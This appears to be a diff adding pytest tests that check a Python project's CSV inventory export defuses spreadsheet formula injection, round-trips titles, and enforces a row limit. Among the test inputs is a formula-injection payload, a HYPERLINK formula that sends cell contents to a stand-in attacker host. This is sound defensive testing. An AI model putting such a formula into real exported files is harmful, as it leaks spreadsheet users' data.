@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import copy
+import csv
+import io
 from collections.abc import Callable
 from typing import Any
 
@@ -120,6 +122,31 @@ def test_commas_quotes_and_newlines_in_titles_survive() -> None:
     entries = (Entry("s", 'a,"b"\nc\r\nd', "m", "spec", "1"),)
 
     assert read_inventory(write_inventory(entries, "csv"), what="x") == entries
+
+
+@pytest.mark.parametrize(
+    "title",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1)',
+        *("@SUM(1)", "+1", "-1", "\t=1", "\r=1", "'=1", "''@x", "'", "'plain", "a=b", "", "''"),
+    ],
+)
+def test_no_field_is_a_formula_to_a_spreadsheet_and_all_come_back(title: str) -> None:
+    entries = (Entry("s", title, "m", "spec", "1"),)
+    written = write_inventory(entries, "csv")
+    field = next(iter(list(csv.reader(io.StringIO(written, newline="")))[1:]))[1]
+    assert not field.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert read_inventory(written, what="x") == entries
+    assert read_inventory(write_inventory(entries, "jsonl"), what="x") == entries
+
+
+def test_an_inventory_of_too_many_rows_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("backend_server.generator.output.inventory.MOST_ROWS", 100)
+    entries = [Entry("s", f"t{number}", "m", "spec", str(number)) for number in range(101)]
+    for form in ("csv", "jsonl"):
+        with pytest.raises(InvalidInput, match="has 101 rows; at most 100"):
+            read_inventory(write_inventory(entries, form), what="x")
+    assert len(read_inventory(write_inventory(entries[1:], "csv"), what="x")) == 100
 
 
 @pytest.mark.parametrize(
